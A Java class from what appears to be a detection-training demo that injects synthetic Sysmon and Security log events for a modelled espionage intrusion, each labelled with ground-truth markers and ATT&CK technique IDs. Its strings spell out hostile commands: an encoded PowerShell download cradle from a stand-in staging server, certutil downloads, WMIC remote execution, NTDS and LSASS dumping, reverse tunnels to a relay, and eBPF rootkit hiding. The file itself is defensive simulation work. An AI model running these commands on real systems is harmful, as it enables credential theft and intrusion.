package io.longwatch.demo;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;
import java.util.Locale;
import java.util.Map;

/**
 * The intrusion, told as a story over the benign month and modelled on public reporting about the
 * 2025–2026 espionage campaign (behaviour only; every address, name and hash here is made up):
 * a reorganisation-themed lure archive, the "Diaoyu"-style loader, Cobalt Strike, discovery,
 * credential theft on a workstation, pass-the-hash lateral movement, a Sliver-like implant, a VShell
 * agent on sequential ports behind a new service, NTDS theft on the DC, Exchange web shells and a
 * Neo-reGeorg page, iox/GOST/FRP tunnels, and the "ShadowGuard" eBPF rootkit on the Linux host.
 *
 * <p>Hands-on-keyboard steps fall in UTC+8 office hours (01:00–10:00 UTC); steps that need the
 * victim at their desk fall in the overlap with the ministry's day (07:00–10:00 UTC). Every record
 * written here carries an {@link Injected} marker: the ground truth.
 */
final class Campaign {
    static final String CS_C2 = "203.0.113.45";
    static final String CS_DOMAIN = "static.cdn-mirror.test";
    static final String IMPLANT_C2 = "203.0.113.61";
    static final String RELAY = "203.0.113.77";
    static final String STAGING_SERVER = "198.51.100.23";
    static final String VSHELL_C2 = "198.51.100.33";
    static final int VSHELL_FIRST_PORT = 45601;
    static final String LURE = "Ministry_Reorganisation_Plan_2026";

    private static final String SYS32 = "C:\\Windows\\System32\\";
    private static final String CMD = SYS32 + "cmd.exe";
    private static final String RUNDLL32 = SYS32 + "rundll32.exe";
    private static final String DLL = "C:\\ProgramData\\Microsoft\\DeviceSync\\dsync.dll";
    private static final String IMPLANT = "C:\\Users\\Public\\Libraries\\MicrosoftEdgeUpdateCore.exe";
    private static final String VSHELL = "C:\\ProgramData\\WinSync\\vmtools.exe";
    private static final String WEB_AUTH = ServerActivity.EXCHANGE_DIR + "FrontEnd\\HttpProxy\\owa\\auth";
    private static final String LINUX_STASH = "/tmp/.X11-unix/.cache";

    private final Map<Host, HostLog> logs;
    private final Map<String, Integer> counters = new HashMap<>();
    private final Map<Integer, Proc> beaconByDay = new HashMap<>();
    private long firstBeaconStart;

    private Campaign(Map<Host, HostLog> logs) {
        this.logs = logs;
    }

    static void inject(Map<Host, HostLog> logs) {
        Campaign c = new Campaign(logs);
        HostLog ws = logs.get(Ministry.PATIENT_ZERO);
        Session first = c.sessionFrom(ws, 1);
        Proc beacon = c.lureAndLoader(ws, first);
        c.cobaltStrike(ws, first, beacon);
        c.discovery(ws, c.sessionFrom(ws, first.day() + 1));
        c.workstationCredentials(ws, c.sessionFrom(ws, first.day() + 2));
        Proc implant = c.lateralToWorkstation(ws, logs.get(Ministry.LATERAL_WS), c.sessionFrom(ws, 7));
        Proc vshell = c.fileServerService(logs.get(Ministry.LATERAL_WS), logs.get(Ministry.FILE_SERVER), implant, 8);
        c.domainControllerTheft(logs.get(Ministry.FILE_SERVER), logs.get(Ministry.DC), vshell, 9);
        c.exchangeWebShell(logs.get(Ministry.EXCHANGE), 10);
        c.linuxTunnelAndRootkit(logs.get(Ministry.JUMP), 14);
    }

    private Injected step(String phase, String technique, String description) {
        int n = counters.merge(phase, 1, Integer::sum);
        return new Injected(String.format(Locale.ROOT, "%s-%03d", phase, n), description, technique);
    }

    private Session sessionFrom(HostLog log, int day) {
        for (Session s : log.sessions) {
            if (s.day() >= day) {
                return s;
            }
        }
        throw new IllegalStateException("no working day on " + log.host.name() + " from day " + day);
    }

    // ---- Patient zero: lure, loader, Cobalt Strike --------------------------------------------

    private Proc lureAndLoader(HostLog ws, Session s) {
        String user = Ministry.qualified(ws.host.user());
        String home = "C:\\Users\\" + ws.host.user();
        String extracted = home + "\\AppData\\Local\\Temp\\Temp1_" + LURE + ".zip\\";
        long t = s.start() + 25 * DemoClock.MINUTE + ws.jitter(20 * DemoClock.MINUTE);
        Sysmon.fileCreate(ws, t, s.browser(), home + "\\Downloads\\" + LURE + ".zip", step("lure", "T1566.002",
                "Edge saves the reorganisation-themed lure archive from a public file-sharing link"));
        long open = t + 95_000_000;
        Sysmon.fileCreate(ws, open, s.explorer(), extracted + "pic1.png", step("loader", "T1480",
                "Opening the archive extracts pic1.png, the image the loader requires beside itself"));
        Proc loader = ws.run(open + 2_000_000, s.explorer(), extracted + LURE + ".exe", "\"" + extracted + LURE + ".exe\" ",
                user, "Medium", step("lure", "T1204.002",
                        "The user runs the lure executable straight from the archive's temporary extraction folder"));
        ws.run(open + 5_000_000, loader, SYS32 + "wbem\\WMIC.exe", "wmic  desktopmonitor get screenwidth,screenheight",
                user, "Medium", step("loader", "T1497.001",
                        "Loader checks the screen width (runs only at 1440 px or more) through WMIC"));
        ws.run(open + 6_000_000, loader, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -NoP -C \"(Get-CimInstance Win32_VideoController).CurrentHorizontalResolution\"",
                user, "Medium", step("loader", "T1497.001", "Loader double-checks the horizontal resolution via CIM"));
        ws.run(open + 7_000_000, loader, SYS32 + "wbem\\WMIC.exe",
                "wmic  /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /format:list", user,
                "Medium", step("loader", "T1518.001", "Loader lists registered antivirus products"));
        ws.run(open + 8_000_000, loader, SYS32 + "tasklist.exe", "tasklist  /svc", user, "Medium",
                step("loader", "T1518.001", "Loader enumerates processes and services to spot security tools"));
        Sysmon.fileCreate(ws, open + 14_000_000, loader, DLL, step("loader", "T1105",
                "Loader drops the Cobalt Strike stager DLL into a ProgramData subfolder"));
        firstBeaconStart = open + 20_000_000;
        Proc beacon = ws.run(firstBeaconStart, loader, RUNDLL32, "\"C:\\Windows\\System32\\rundll32.exe\"", user,
                "Medium", step("beacon", "T1218.011", "Loader starts rundll32 without arguments and injects the beacon"));
        beaconByDay.put(s.day(), beacon);
        return beacon;
    }

    private void cobaltStrike(HostLog ws, Session first, Proc firstBeacon) {
        String user = Ministry.qualified(ws.host.user());
        long persist = first.start() + 2 * DemoClock.HOUR + ws.jitter(20 * DemoClock.MINUTE);
        if (persist > DemoClock.at(first.day(), 9, 45, 0)) {
            persist = DemoClock.at(first.day(), 9, 40, 0);
        }
        String task = "schtasks /create /tn \"Microsoft\\Windows\\DeviceSync\\SyncCheck\" /tr \"rundll32.exe " + DLL
                + ",DllUnregisterServer\" /sc onlogon /rl highest /f";
        Proc cmd = ws.run(persist, firstBeacon, CMD, "C:\\Windows\\system32\\cmd.exe /C " + task, user, "Medium",
                step("persistence", "T1053.005", "Beacon shell command creates a logon task that reloads the DLL"));
        ws.run(persist + 150_000, cmd, SYS32 + "schtasks.exe", task, user, "Medium",
                step("persistence", "T1053.005", "schtasks registers the disguised DeviceSync logon task"));
        Sysmon.registrySet(ws, persist + 90 * 1_000_000L, firstBeacon, "HKU\\" + ws.host.userSid()
                + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\DeviceSync", "rundll32.exe " + DLL
                + ",DllUnregisterServer", step("persistence", "T1547.001",
                "Backup persistence: a Run value starts the DLL through rundll32 at logon"));

        for (Session s : ws.sessions) {
            if (s.day() < first.day()) {
                continue;
            }
            Proc beacon;
            long t;
            if (s.day() == first.day()) {
                beacon = firstBeacon;
                t = firstBeaconStart;
            } else {
                t = s.start() + 40_000_000;
                beacon = ws.run(t, ws.sys.scheduleHost(), RUNDLL32, "rundll32.exe " + DLL + ",DllUnregisterServer", user,
                        "High", step("persistence", "T1053.005", "The logon task reloads the beacon DLL with rundll32"));
                beaconByDay.put(s.day(), beacon);
            }
            Sysmon.pipeCreated(ws, t + 1_000_000, beacon, String.format(Locale.ROOT, "\\MSSE-%d-server",
                    1000 + ws.rng.nextInt(9000)), step("beacon", "T1055",
                    "Beacon creates its default-profile named pipe \\MSSE-<n>-server"));
            Sysmon.dns(ws, t + 2_000_000, beacon, CS_DOMAIN, CS_C2, step("beacon", "T1071.004",
                    "rundll32 resolves the C2 domain"));
            for (long c = t + 3_000_000; c < s.end(); c += 14 * DemoClock.MINUTE + ws.jitter(12 * DemoClock.MINUTE)) {
                ws.connect(c, beacon, CS_C2, CS_DOMAIN, 443, step("beacon", "T1071.001",
                        "Cobalt Strike HTTPS check-in from rundll32"));
            }
        }
    }

    private Proc shell(HostLog log, long t, Proc parent, String command, String toolImage, String toolCommand,
                       String user, String phase, String technique, String what) {
        Proc cmd = log.run(t, parent, CMD, "C:\\Windows\\system32\\cmd.exe /C " + command, user, "High",
                step(phase, technique, what + " (shell wrapper)"));
        return log.run(t + 120_000, cmd, toolImage, toolCommand, user, "High", step(phase, technique, what));
    }

    private void discovery(HostLog ws, Session s) {
        Proc beacon = beaconByDay.get(s.day());
        String user = Ministry.qualified(ws.host.user());
        long t = s.start() + 25 * DemoClock.MINUTE;
        Proc net = shell(ws, t, beacon, "net group \"domain admins\" /domain", SYS32 + "net.exe",
                "net  group \"domain admins\" /domain", user, "discovery", "T1069.002", "Operator lists Domain Admins");
        ws.run(t + 200_000, net, SYS32 + "net1.exe", "C:\\Windows\\system32\\net1  group \"domain admins\" /domain", user,
                "High", step("discovery", "T1069.002", "net hands the Domain Admins query to net1"));
        shell(ws, t + 75_000_000, beacon, "nltest /dclist:" + Ministry.DNS_DOMAIN, SYS32 + "nltest.exe",
                "nltest  /dclist:" + Ministry.DNS_DOMAIN, user, "discovery", "T1018", "Operator lists domain controllers");
        shell(ws, t + 140_000_000, beacon, "nltest /domain_trusts /all_trusts", SYS32 + "nltest.exe",
                "nltest  /domain_trusts /all_trusts", user, "discovery", "T1482", "Operator enumerates domain trusts");
        long scan = t + 9 * DemoClock.MINUTE;
        Proc post = ws.run(scan, beacon, RUNDLL32, "C:\\Windows\\system32\\rundll32.exe", user, "High",
                step("discovery", "T1218.011", "Post-exploitation job spawns a sacrificial rundll32 (port scan)"));
        Sysmon.pipeCreated(ws, scan + 400_000, post, String.format(Locale.ROOT, "\\postex_%04x", ws.rng.nextInt(0x10000)),
                step("discovery", "T1055", "The post-ex job talks back over a \\postex_ pipe"));
    }

    private void workstationCredentials(HostLog ws, Session s) {
        Proc beacon = beaconByDay.get(s.day());
        String user = Ministry.qualified(ws.host.user());
        long t = s.start() + 35 * DemoClock.MINUTE;
        Proc post = ws.run(t, beacon, RUNDLL32, "C:\\Windows\\system32\\rundll32.exe", user, "High",
                step("credential-ws", "T1218.011", "Credential job spawns a sacrificial rundll32"));
        Sysmon.pipeCreated(ws, t + 300_000, post, String.format(Locale.ROOT, "\\postex_%04x", ws.rng.nextInt(0x10000)),
                step("credential-ws", "T1055", "Credential job pipe \\postex_"));
        Sysmon.processAccess(ws, t + 900_000, post, ws.sys.lsass(), "0x1010",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(00000000002A1C3F)",
                step("credential-ws", "T1003.001", "Injected code reads LSASS memory (access 0x1010)"));
        long pth = t + 14 * DemoClock.MINUTE;
        Security.logon(ws, pth, 9, ws.host.user(), ws.host.userSid(), "0x" + Long.toHexString(0x7d0000 + pth % 0xFFFF),
                "seclogo", "Negotiate", "-", "::1", 0, Ministry.ADMIN_ACCOUNT, step("credential-ws", "T1550.002",
                        "Pass-the-hash: a new-credentials logon (type 9, seclogo) with the stolen admin hash"));
    }

    // ---- Lateral movement, Sliver-like implant, VShell service ----------------------------------

    private Proc lateralToWorkstation(HostLog src, HostLog dst, Session s) {
        Proc beacon = beaconByDay.get(s.day());
        String user = Ministry.qualified(src.host.user());
        String admin = Ministry.qualified(Ministry.ADMIN_ACCOUNT);
        long t = s.start() + 30 * DemoClock.MINUTE;
        String cradle = "IEX (New-Object Net.WebClient).DownloadString('http://" + STAGING_SERVER + "/s/upd.ps1')";
        String encoded = Base64.getEncoder().encodeToString(cradle.getBytes(StandardCharsets.UTF_16LE));
        String ps = "powershell.exe -nop -w hidden -enc " + encoded;
        String wmic = "wmic /node:" + dst.host.name() + " process call create \"" + ps + "\"";
        shell(src, t, beacon, wmic, SYS32 + "wbem\\WMIC.exe", wmic, user, "lateral", "T1047",
                "WMIC starts an encoded PowerShell cradle on " + dst.host.name());
        networkPassTheHash(dst, t + 1_500_000, src.host, "lateral");
        Proc cradleProc = dst.run(t + 2_500_000, dst.sys.wmiHost(), SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", ps,
                admin, "High", step("lateral", "T1059.001", "WmiPrvSE runs the hidden encoded download cradle"));
        Sysmon.fileCreate(dst, t + 9_000_000, cradleProc, IMPLANT, step("implant", "T1105",
                "The cradle writes a Sliver-like implant into C:\\Users\\Public\\Libraries"));
        Proc implant = dst.run(t + 11_000_000, cradleProc, IMPLANT, "\"" + IMPLANT + "\"", admin, "High",
                step("implant", "T1204.002", "The implant starts from the Public folder"));
        for (long c = t + 13_000_000; c < DemoClock.at(DemoClock.DAYS - 1, 23, 0, 0);
             c += 45 * DemoClock.MINUTE + dst.jitter(30 * DemoClock.MINUTE)) {
            dst.connect(c, implant, IMPLANT_C2, "-", 443, step("implant", "T1071.001",
                    "Implant HTTPS check-in to its C2 by IP address"));
        }
        long assembly = DemoClock.at(s.day() + 1, 1, 40, 0) + dst.jitter(20 * DemoClock.MINUTE);
        dst.run(assembly, implant, SYS32 + "notepad.exe", "C:\\Windows\\system32\\notepad.exe", admin, "High",
                step("implant", "T1055", "Implant spawns notepad.exe without arguments as a sacrificial process"));
        return implant;
    }

    /** A network logon with an NTLM hash and no session key, as pass-the-hash leaves on the target. */
    private void networkPassTheHash(HostLog dst, long t, Host from, String phase) {
        Security.logon(dst, t, 3, Ministry.ADMIN_ACCOUNT, Ministry.ADMIN_ACCOUNT_SID,
                "0x" + Long.toHexString(0x9a0000 + t / 1000 % 0xFFFF), "NtLmSsp ", "NTLM", from.name(), from.ip(), 0, null,
                step(phase, "T1550.002", "Network logon of the admin account with NTLM and no session key from "
                        + from.name() + " (pass-the-hash)"));
    }

    private Proc fileServerService(HostLog ws, HostLog fs, Proc implant, int day) {
        String admin = Ministry.qualified(Ministry.ADMIN_ACCOUNT);
        long t = DemoClock.at(day, 2, 30, 0) + ws.jitter(15 * DemoClock.MINUTE);
        networkPassTheHash(fs, t - 20_000_000, ws.host, "lateral");
        Sysmon.fileCreate(fs, t - 15_000_000, fs.sys.system(), VSHELL, step("lateral", "T1570",
                "The VShell agent arrives over SMB (admin share) in a ProgramData subfolder"));
        String create = "sc \\\\" + fs.host.name() + " create WinSyncSvc binPath= \"" + VSHELL
                + "\" start= auto DisplayName= \"Windows Sync Helper\"";
        shell(ws, t, implant, create, SYS32 + "sc.exe", create, admin, "persistence", "T1543.003",
                "Operator creates a remote auto-start service for the VShell agent");
        Sysmon.registrySet(fs, t + 400_000, fs.sys.services(), "HKLM\\System\\CurrentControlSet\\Services\\WinSyncSvc"
                + "\\ImagePath", VSHELL, step("persistence", "T1543.003", "Service ImagePath points into ProgramData"));
        Proc agent = fs.run(t + 3_000_000, fs.sys.services(), VSHELL, VSHELL, SystemProcs.SYSTEM_USER, "System",
                step("vshell", "T1543.003", "services.exe starts the VShell agent from ProgramData"));
        int port = 0;
        for (long c = t + 5_000_000; c < DemoClock.at(DemoClock.DAYS - 1, 23, 30, 0);
             c += 40 * DemoClock.MINUTE + fs.jitter(20 * DemoClock.MINUTE)) {
            fs.connect(c, agent, VSHELL_C2, "-", VSHELL_FIRST_PORT + port, step("vshell", "T1571",
                    "VShell agent connects to its listener on sequential five-digit ports"));
            port = (port + 1) % 5;
        }
        return agent;
    }

    private void domainControllerTheft(HostLog fs, HostLog dc, Proc agent, int day) {
        String admin = Ministry.qualified(Ministry.ADMIN_ACCOUNT);
        String[][] remote = {
            {"cmd.exe /c vssadmin create shadow /for=C: > C:\\ProgramData\\WinSync\\v.log",
                SYS32 + "vssadmin.exe", "vssadmin  create shadow /for=C:", "T1003.003",
                "Volume shadow copy of C: to read the locked NTDS database"},
            {"cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit "
                + "C:\\ProgramData\\nt.dit & reg save HKLM\\SYSTEM C:\\ProgramData\\sy.hiv /y",
                SYS32 + "reg.exe", "reg  save HKLM\\SYSTEM C:\\ProgramData\\sy.hiv /y", "T1003.003",
                "ntds.dit copied out of the shadow copy and the SYSTEM hive saved for its boot key"},
            {"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\WinSync\\d.bin full",
                null, null, "T1003.001", "LSASS of the DC dumped with comsvcs.dll MiniDump"}
        };
        long t = DemoClock.at(day, 2, 40, 0) + fs.jitter(10 * DemoClock.MINUTE);
        networkPassTheHash(dc, t + 1_000_000, fs.host, "credential-dc");
        for (String[] r : remote) {
            String wmic = "wmic /node:" + dc.host.name() + " process call create \"" + r[0] + "\"";
            shell(fs, t, agent, wmic, SYS32 + "wbem\\WMIC.exe", wmic, admin, "credential-dc", "T1047",
                    "Remote WMI process creation on the DC: " + r[4]);
            boolean viaCmd = r[1] != null;
            String image = viaCmd ? CMD : RUNDLL32;
            Proc first = dc.run(t + 2_000_000, dc.sys.wmiHost(), image,
                    viaCmd ? r[0].replace("cmd.exe", "C:\\Windows\\system32\\cmd.exe") : r[0], admin, "High",
                    step("credential-dc", r[3], r[4]));
            if (viaCmd) {
                dc.run(t + 2_300_000, first, r[1], r[2], admin, "High", step("credential-dc", r[3], r[4]));
            }
            t += 11 * DemoClock.MINUTE + fs.jitter(6 * DemoClock.MINUTE);
        }
    }

    // ---- Exchange web shell ------------------------------------------------------------------

    private void exchangeWebShell(HostLog ex, int day) {
        Proc w3wp = null;
        for (int i = ex.events.size() - 1; i >= 0 && w3wp == null; i--) {
            DemoEvent e = ex.events.get(i);
            if (e.kind == Kind.PROCESS_CREATE && ServerActivity.W3WP.equals(e.get("Image"))
                    && e.timeMicros < DemoClock.at(day, 3, 0, 0) && e.timeMicros > DemoClock.at(day - 1, 0, 0, 0)) {
                w3wp = new Proc(e.get("Image"), e.get("CommandLine"), Integer.parseInt(e.get("ProcessId")),
                        e.get("ProcessGuid"), e.get("User"), "System", "C:\\Windows\\system32\\");
            }
        }
        if (w3wp == null) {
            throw new IllegalStateException("no OWA worker process before the web shell day");
        }
        long t = DemoClock.at(day, 3, 5, 0) + ex.jitter(10 * DemoClock.MINUTE);
        Sysmon.fileCreate(ex, t, w3wp, WEB_AUTH + "\\OutlookEN.aspx", step("webshell", "T1505.003",
                "Exploited OWA writes a Godzilla-style .aspx web shell into owa\\auth"));
        t += 2 * DemoClock.MINUTE;
        webCommand(ex, t, w3wp, "whoami /all", SYS32 + "whoami.exe", "whoami  /all", "T1033",
                "Web shell runs whoami");
        webCommand(ex, t + 90_000_000, w3wp, "net group \"Exchange Trusted Subsystem\" /domain", SYS32 + "net.exe",
                "net  group \"Exchange Trusted Subsystem\" /domain", "T1069.002", "Web shell lists Exchange groups");
        String dump = "C:\\ProgramData\\pd64.exe";
        download(ex, t + 6 * DemoClock.MINUTE, w3wp, "pd.bin", dump);
        Proc tool = webCommand(ex, t + 9 * DemoClock.MINUTE, w3wp,
                dump + " -accepteula -ma lsass.exe C:\\ProgramData\\ls.dmp", dump,
                dump + "  -accepteula -ma lsass.exe C:\\ProgramData\\ls.dmp", "T1003.001",
                "Web shell runs a renamed ProcDump against LSASS");
        Sysmon.processAccess(ex, t + 9 * DemoClock.MINUTE + 800_000, tool, ex.sys.lsass(), "0x1fffff",
                "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                        + "C:\\Windows\\SYSTEM32\\dbghelp.dll+1f8a2|" + dump + "+3a1c0",
                step("webshell", "T1003.001", "The dump tool opens LSASS with full access"));
        Sysmon.fileCreate(ex, t + 25 * DemoClock.MINUTE, w3wp,
                "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\tunnel.aspx",
                step("webshell", "T1090.001", "Operator uploads a Neo-reGeorg tunnel page"));

        long next = DemoClock.at(day + 1, 2, 20, 0) + ex.jitter(10 * DemoClock.MINUTE);
        String iox = "C:\\ProgramData\\iox.exe";
        download(ex, next, w3wp, "i.bin", iox);
        Proc proxy = webCommand(ex, next + 3 * DemoClock.MINUTE, w3wp, iox + " proxy -r " + RELAY + ":9999", iox,
                iox + " proxy -r " + RELAY + ":9999", "T1090.002", "iox reverse SOCKS proxy out to the relay");
        ex.connect(next + 3 * DemoClock.MINUTE + 900_000, proxy, RELAY, "-", 9999, step("webshell", "T1090.002",
                "iox connects out to the operator relay"));
    }

    private void download(HostLog ex, long t, Proc w3wp, String remote, String local) {
        String url = "http://" + STAGING_SERVER + "/up/" + remote;
        Proc certutil = webCommand(ex, t, w3wp, "certutil -urlcache -split -f " + url + " " + local,
                SYS32 + "certutil.exe", "certutil  -urlcache -split -f " + url + " " + local, "T1105",
                "Web shell downloads a tool with certutil");
        Sysmon.fileCreate(ex, t + 2_000_000, certutil, local, step("webshell", "T1105",
                "certutil writes the downloaded tool into ProgramData"));
    }

    /** A command through the web shell: w3wp starts cmd with a Behinder/Godzilla-style wrapper. */
    private Proc webCommand(HostLog ex, long t, Proc w3wp, String command, String toolImage, String toolCommand,
                            String technique, String what) {
        String wrapper = "cmd.exe /c cd /d \"" + WEB_AUTH + "\"&" + command + "&echo [S]&cd&echo [E]";
        Proc cmd = ex.run(t, w3wp, CMD, wrapper, SystemProcs.SYSTEM_USER, "System",
                step("webshell", "T1505.003", what + " (w3wp starts cmd)"));
        return ex.run(t + 150_000, cmd, toolImage, toolCommand, SystemProcs.SYSTEM_USER, "System",
                step("webshell", technique, what));
    }

    // ---- Linux host: tunnels and ShadowGuard --------------------------------------------------

    private void linuxTunnelAndRootkit(HostLog jump, int day) {
        long t = DemoClock.at(day, 2, 15, 0) + jump.jitter(10 * DemoClock.MINUTE);
        // The operator's interactive root shell itself is not in the shipper's output (it started
        // before the collector caught up); only what it runs is.
        Proc shell = jump.spawn(t - DemoClock.MINUTE, "/usr/bin/bash", "-bash", "root", "", "/root");
        String forward = " -L=rtcp://:18443/" + Ministry.EXCHANGE.ip() + ":443 -F=relay+tls://" + RELAY + ":8443";
        Proc gost = jump.run(t, shell, LINUX_STASH + "/gost", LINUX_STASH + "/gost" + forward, "root", "",
                step("tunnel", "T1572", "GOST reverse-forwards Exchange HTTPS to the operator relay"));
        Proc frpc = jump.run(t + 4 * DemoClock.MINUTE, shell, LINUX_STASH + "/frpc",
                LINUX_STASH + "/frpc -c " + LINUX_STASH + "/frpc.toml", "root", "",
                step("tunnel", "T1572", "FRP client exposes internal services through the relay"));

        long r = DemoClock.at(day + 2, 3, 0, 0) + jump.jitter(20 * DemoClock.MINUTE);
        jump.run(r, shell, "/usr/bin/mkdir", "/usr/bin/mkdir -p /usr/lib/swsecret", "root", "",
                step("rootkit", "T1564.001", "Hidden directory named like the rootkit's swsecret prefix"));
        jump.run(r + 20_000_000, shell, "/usr/bin/mv", "/usr/bin/mv " + LINUX_STASH + "/gost /usr/lib/swsecret/swsecret_gw",
                "root", "", step("rootkit", "T1564.001", "Tunnel binary moved under the hidden swsecret name"));
        jump.run(r + 50_000_000, shell, "/usr/sbin/bpftool",
                "/usr/sbin/bpftool prog loadall /usr/lib/swsecret/sg.bpf.o /sys/fs/bpf/sg autoattach", "root", "",
                step("rootkit", "T1014", "ShadowGuard eBPF programs loaded and attached with bpftool"));
        jump.run(r + 80_000_000, shell, "/usr/bin/kill", "/usr/bin/kill -900 " + gost.pid(), "root", "",
                step("rootkit", "T1014", "Signal 900 tells the rootkit to hide the GOST process"));
        jump.run(r + 85_000_000, shell, "/usr/bin/kill", "/usr/bin/kill -900 " + frpc.pid(), "root", "",
                step("rootkit", "T1014", "Signal 900 hides the FRP client"));
        long later = DemoClock.at(day + 7, 1, 50, 0) + jump.jitter(30 * DemoClock.MINUTE);
        jump.run(later, shell, "/usr/bin/kill", "/usr/bin/kill -901 " + frpc.pid(), "root", "",
                step("rootkit", "T1014", "Signal 901 makes the FRP client visible again before it is replaced"));
        jump.run(later + 60_000_000, shell, "/usr/lib/swsecret/swsecret_gw", "/usr/lib/swsecret/swsecret_gw" + forward,
                "root", "", step("tunnel", "T1572", "GOST restarted from the hidden swsecret path"));
    }
}
